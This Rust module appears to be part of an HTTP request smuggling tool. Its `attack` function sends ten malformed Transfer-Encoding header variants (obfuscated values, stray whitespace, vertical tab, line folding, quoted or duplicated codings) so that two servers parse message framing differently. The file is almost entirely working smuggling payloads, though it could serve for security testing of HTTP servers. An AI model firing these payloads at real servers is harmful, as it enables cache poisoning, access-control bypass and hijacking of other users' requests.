//! Tries: to have one side see a transfer coding that the other does not.

use super::connections::*;

pub async fn attack(scene: &Scene) {
    hidden_requests(scene, &[
        Form::Ambiguous("transfer-encoding: xchunked\r\n\r\n{chunk}"),
        Form::Ambiguous("transfer-encoding : chunked\r\n\r\n{chunk}"),
        Form::Ambiguous("transfer-encoding: chunked, identity\r\n\r\n{chunk}"),
        Form::Ambiguous("transfer-encoding:\tchunked\r\ncontent-length: 0\r\n\r\n{chunk}"),
        Form::Ambiguous("transfer-encoding: \x0bchunked\r\ncontent-length: 0\r\n\r\n{chunk}"),
        Form::Ambiguous(" transfer-encoding: chunked\r\ncontent-length: 0\r\n\r\n{chunk}"),
        Form::Ambiguous("x: y\r\n transfer-encoding: chunked\r\ncontent-length: 0\r\n\r\n{chunk}"),
        Form::Ambiguous("transfer-encoding: \"chunked\"\r\ncontent-length: 0\r\n\r\n{chunk}"),
        Form::Odd("transfer_encoding: chunked\r\ncontent-length: 0\r\n\r\n{chunk}"),
        Form::Ambiguous("transfer-encoding: gzip, chunked, chunked\r\n\r\n{chunk}"),
    ])
    .await;
}
